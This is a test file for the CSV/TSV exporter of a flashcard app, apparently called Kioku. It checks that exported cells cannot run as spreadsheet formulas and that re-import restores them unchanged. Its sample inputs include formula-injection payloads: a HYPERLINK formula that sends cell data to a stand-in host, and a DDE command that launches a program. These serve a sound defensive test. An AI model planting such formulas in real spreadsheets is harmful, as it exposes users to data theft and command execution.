import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BASIC_NOTE_TYPE } from '../../../src/core/cards/note-types';
import type { CollectionData } from '../../../src/core/collection/model';
import { readCsv, writeCsv } from '../../../src/core/formats';

const FIELDS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'=already quoted", "''+twice", '\tTab', "it's fine", '- a list item'];

function deckOf(fronts: string[]): CollectionData {
  return {
    decks: [{ id: 'd', name: '=Deck' }],
    noteTypes: [BASIC_NOTE_TYPE],
    notes: fronts.map((front, i) => ({ id: `n${i}`, noteTypeId: BASIC_NOTE_TYPE.id, deckId: 'd', fields: [front, `back ${i}`], tags: ['@tag'], modified: 0 })),
  };
}

describe('CSV/TSV export and spreadsheet formulas', () => {
  for (const delimiter of [',', '\t'] as const) {
    it(`starts no ${delimiter === ',' ? 'CSV' : 'TSV'} cell with what a spreadsheet runs as a formula`, () => {
      const text = writeCsv(deckOf(FIELDS), { delimiter });
      const cells = Papa.parse<string[]>(text, { delimiter }).data.flat();
      for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it(`gives back exactly what was exported when Kioku reads its own ${delimiter === ',' ? 'CSV' : 'TSV'} again`, () => {
      const text = writeCsv(deckOf(FIELDS), { delimiter });
      const { collection } = readCsv(text, 'export.csv', { delimiter, now: 0 });
      expect(collection.notes.map((note) => note.fields[0])).toEqual(FIELDS);
      expect(collection.notes[0]?.tags).toEqual(['@tag']);
      expect(collection.decks.map((deck) => deck.name)).toEqual(['=Deck']);
    });
  }
});
